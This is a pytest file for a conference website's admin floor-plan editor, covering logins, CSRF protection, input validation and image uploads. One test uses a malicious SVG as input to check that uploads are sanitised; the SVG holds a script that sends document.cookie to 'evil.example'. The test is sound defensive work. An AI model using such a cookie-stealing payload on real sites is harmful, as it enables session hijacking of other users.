"""The floor-plan editor's pages: organisers only, every form with its CSRF token, each action a
form a keyboard or a script-less browser can send, refusals explained, nothing saved by them."""

from __future__ import annotations

import io
import re

import pytest
from PIL import Image

from fagkonferanse.extensions import db
from fagkonferanse.stands.models import Stand
from fagkonferanse.uploads.models import UploadedImage
from fagkonferanse.venue.models import Floor, Location

from ..admin.conftest import lookup, submit, text  # noqa: F401  (lookup is a fixture)
from ..conftest import csrf_token


def floor_id(app, number: int) -> int:
    with app.app_context():
        return db.session.scalar(db.select(Floor.id).filter_by(building="H-bygget", number=number))


def ids(app, model, **where) -> int:
    with app.app_context():
        return db.session.scalar(db.select(model.id).filter_by(**where))


def stand_row(app, slug: str) -> tuple[str, float | None, float | None]:
    with app.app_context():
        stand = db.session.scalar(db.select(Stand).filter_by(slug=slug))
        return stand.location.name, stand.plan_x, stand.plan_y


def test_every_page_and_action_needs_a_login(app, client):
    first = floor_id(app, 1)
    pages = ["/admin/plans", f"/admin/plans/{first}"]
    actions = ["/admin/plans/new", f"/admin/plans/{first}/shape", f"/admin/plans/{first}/place",
               f"/admin/plans/{first}/image", f"/admin/plans/{first}/image/remove", f"/admin/plans/{first}/settings",
               f"/admin/plans/{first}/stands/1/clear", f"/admin/plans/{first}/shape/1/clear"]
    for path in pages:
        response = client.get(path)
        assert response.status_code == 302 and response.headers["Location"].startswith("/login?next="), path
    for path in actions:
        assert client.post(path, data={"x": "1", "y": "1", "stand": "1"}).status_code == 401, path
    assert stand_row(app, "husbanken") == ("H-113", None, None)


def test_every_action_needs_its_csrf_token(app, admin_client):
    first = floor_id(app, 1)
    husbanken = ids(app, Stand, slug="husbanken")
    posts = {
        f"/admin/plans/{first}/place": {"stand": str(husbanken), "x": "100", "y": "100"},
        f"/admin/plans/{first}/shape": {"location": "new", "new_name": "Garderoben", "new_kind": "area",
                                        "points": "0,0 50,0 50,50"},
        f"/admin/plans/{first}/settings": {"width": "900", "height": "500"},
        f"/admin/plans/{first}/image/remove": {},
        f"/admin/plans/{first}/stands/{husbanken}/clear": {},
        "/admin/plans/new": {"building": "H-bygget", "number": "7"},
    }
    for path, data in posts.items():
        assert admin_client.post(path, data=data).status_code == 400, path
    assert stand_row(app, "husbanken") == ("H-113", None, None)
    assert ids(app, Location, name="Garderoben") is None and ids(app, Floor, number=7) is None


def test_the_floors_are_listed_with_what_is_drawn(admin_client):
    page = text(admin_client.get("/admin/plans"))
    assert "H-bygget, 1. etasje Skjematisk plan Steder: 6 av 6 tegnet Stands: 3 Tegning: – Rediger planen" in page
    assert "H-bygget, 3. etasje Skjematisk plan Steder: 1 av 1 tegnet Stands: 1" in page


def test_the_editor_shows_the_plan_with_handles_and_the_forms(app, admin_client):
    page = admin_client.get(f"/admin/plans/{floor_id(app, 1)}").get_data(as_text=True)
    husbanken = ids(app, Stand, slug="husbanken")
    assert f'data-stand-id="{husbanken}"' in page and 'role="button"' in page and 'tabindex="0"' in page
    assert f'id="stand-marker-{husbanken}"' in page and 'aria-describedby="plan-editor-keys"' in page
    assert "<a " not in page.split("<svg", 1)[1].split("</svg>", 1)[0]  # handles, not links
    assert f'id="stand-{husbanken}"' in page and page.count('name="csrf_token"') >= 8
    assert "/static/plan-editor.js" in page


def test_a_stand_is_placed_by_typing_x_and_y(app, admin_client):
    first = floor_id(app, 1)
    husbanken = ids(app, Stand, slug="husbanken")
    response = admin_client.post(f"/admin/plans/{first}/place", data={
        "csrf_token": csrf_token(admin_client, f"/admin/plans/{first}"), "stand": str(husbanken), "x": "640", "y": "120,5"})
    assert response.status_code == 303
    assert response.headers["Location"] == f"/admin/plans/{first}#stand-marker-{husbanken}"
    assert stand_row(app, "husbanken") == ("H-113", 640, 120.5)
    page = admin_client.get(response.headers["Location"])
    assert "Standen til Husbanken er flyttet til 640, 120.5 (H-113)." in text(page)
    assert 'transform="translate(640 120.5)"' in page.get_data(as_text=True)
    assert "Flyttet standen til Husbanken på planen" in text(admin_client.get("/admin/audit"))


@pytest.mark.parametrize("data, message", [
    ({"x": "2000", "y": "10"}, "Plasseringen må være på planen: x fra 0 til 820 og y fra 0 til 440."),
    ({"x": "ti", "y": "10"}, "Skriv et tall, for eksempel 120 eller 120,5."),
    ({"x": "nan", "y": "10"}, "Skriv et tall, for eksempel 120 eller 120,5."),
    ({"x": "", "y": "10"}, "Skriv x som et tall."),
])
def test_a_position_off_the_plan_or_not_a_number_is_refused(app, admin_client, data, message):
    first = floor_id(app, 1)
    husbanken = ids(app, Stand, slug="husbanken")
    response = admin_client.post(f"/admin/plans/{first}/place", data={
        "csrf_token": csrf_token(admin_client, f"/admin/plans/{first}"), "stand": str(husbanken), **data})
    assert response.status_code == 400 and message in text(response)
    assert stand_row(app, "husbanken") == ("H-113", None, None)


def test_a_new_place_is_drawn_from_typed_points(app, admin_client):
    first = floor_id(app, 1)
    response = submit(admin_client, f"/admin/plans/{first}", {
        "location": "new", "new_name": "Garderoben", "new_kind": "area", "points": "20,20 200,20 200,120 20,120"},
        action=f"/admin/plans/{first}/shape")
    assert response.status_code == 303
    with app.app_context():
        made = db.session.scalar(db.select(Location).filter_by(name="Garderoben"))
        assert (made.floor, made.kind, made.outline) == (1, "area", "20,20 200,20 200,120 20,120")
    assert "Garderoben er tegnet på planen." in text(admin_client.get(response.headers["Location"]))


@pytest.mark.parametrize("changes, message", [
    ({"location": "new", "new_name": ""}, "Skriv navnet på det nye stedet."),
    ({"location": "new", "new_name": "h-113"}, "Det finnes allerede et sted som heter «H-113»."),
    ({"points": ""}, "Tegn formen på planen, eller skriv punktene."),
    ({"points": "1,1 2,2"}, "En form trenger minst tre punkter."),
    ({"points": "0,0 10,0 10,10 x,y"}, "«x,y» er ikke et punkt."),
    ({"location": "99999"}, "Velg et sted i listen."),
])
def test_a_shape_that_breaks_the_rules_is_refused_with_the_reason(app, admin_client, lookup, changes, message):
    first = floor_id(app, 1)
    places = lookup.count(Location)
    response = submit(admin_client, f"/admin/plans/{first}", {"points": "0,0 10,0 10,10", **changes},
                      action=f"/admin/plans/{first}/shape")
    assert response.status_code == 400 and message in text(response)
    assert lookup.count(Location) == places


def test_a_place_is_taken_off_the_plan_and_stays_a_place(app, admin_client):
    first = floor_id(app, 1)
    coffee = ids(app, Location, name="Kaffebaren")
    path = f"/admin/plans/{first}/shape/{coffee}/clear"
    response = admin_client.post(path, data={"csrf_token": csrf_token(admin_client, f"/admin/plans/{first}")})
    assert response.status_code == 303
    with app.app_context():
        assert db.session.get(Location, coffee).outline == ""


def png_upload(size=(1640, 880)) -> tuple[io.BytesIO, str]:
    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, "PNG")
    buffer.seek(0)
    return buffer, "plan.png"


def test_a_drawing_is_uploaded_under_the_plan_and_shown_on_the_public_page(app, admin_client, client):
    first = floor_id(app, 1)
    response = admin_client.post(f"/admin/plans/{first}/image", content_type="multipart/form-data", data={
        "csrf_token": csrf_token(admin_client, f"/admin/plans/{first}"), "image": png_upload()})
    assert response.status_code == 303
    with app.app_context():
        floor = db.session.get(Floor, first)
        assert (floor.width, floor.height, floor.image.content_type) == (820, 440, "image/png")
        address = f"/images/{floor.image.id}-{floor.image.digest[:16]}.png"
    assert f'<image href="{address}"' in client.get("/stands").get_data(as_text=True)
    assert client.get(address).status_code == 200
    editor = admin_client.get(f"/admin/plans/{first}").get_data(as_text=True)
    assert f'<img class="plan-preview-image" src="{address}"' in editor and f'<image href="{address}"' in editor


def test_a_malicious_svg_is_kept_only_as_drawing(app, admin_client):
    first = floor_id(app, 2)
    evil = (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 820 440" onload="fetch(\'/admin/audit\')">'
            b'<script>document.location="https://evil.example/?"+document.cookie</script>'
            b'<rect width="820" height="440" fill="#eee"/></svg>')
    response = admin_client.post(f"/admin/plans/{first}/image", content_type="multipart/form-data", data={
        "csrf_token": csrf_token(admin_client, f"/admin/plans/{first}"), "image": (io.BytesIO(evil), "plan.svg")})
    assert response.status_code == 303
    with app.app_context():
        stored = db.session.get(Floor, first).image.data.decode()
    assert "script" not in stored and "onload" not in stored and "evil" not in stored and "<rect" in stored


@pytest.mark.parametrize("upload, message", [
    ((io.BytesIO(b"GIF89a..."), "plan.gif"), "Filen er ikke et PNG-, JPEG- eller SVG-bilde."),
    ((io.BytesIO(b""), ""), "Velg en fil å laste opp."),
])
def test_an_upload_that_is_not_a_drawing_is_refused(app, admin_client, lookup, upload, message):
    first = floor_id(app, 1)
    response = admin_client.post(f"/admin/plans/{first}/image", content_type="multipart/form-data", data={
        "csrf_token": csrf_token(admin_client, f"/admin/plans/{first}"), "image": upload})
    assert response.status_code == 400 and message in text(response)
    assert lookup.count(UploadedImage) == 0


def test_the_plans_settings_say_whether_it_is_schematic(app, admin_client, client):
    first = floor_id(app, 1)
    response = submit(admin_client, f"/admin/plans/{first}", {"schematic": None, "note": "Tegnet av vaktmesteren.",
                                                              "width": "820", "height": "440"},
                      action=f"/admin/plans/{first}/settings")
    assert response.status_code == 303
    public = client.get("/stands").get_data(as_text=True)
    first_floor = public.split('id="etasje-h-bygget-1"', 1)[1].split("</section>", 1)[0]
    assert "Skjematisk plan" not in first_floor and "Tegnet av vaktmesteren." in first_floor
    refused = submit(admin_client, f"/admin/plans/{first}", {"width": "50"}, action=f"/admin/plans/{first}/settings")
    assert refused.status_code == 400 and "Bredden må være fra 100 til 10000." in text(refused)


def test_a_floor_can_be_added_before_any_place_is_on_it(app, admin_client):
    response = submit(admin_client, "/admin/plans", {"building": "H-bygget", "number": "4"}, action="/admin/plans/new")
    assert response.status_code == 303
    new = ids(app, Floor, number=4)
    assert response.headers["Location"] == f"/admin/plans/{new}"
    assert "Plan for 4. etasje, H-bygget" in text(admin_client.get(response.headers["Location"]))


def test_another_events_floor_is_not_found(app, admin_client):
    assert admin_client.get("/admin/plans/9999").status_code == 404
    assert re.search(r"/admin/plans/\d+", admin_client.get("/admin/plans").get_data(as_text=True))
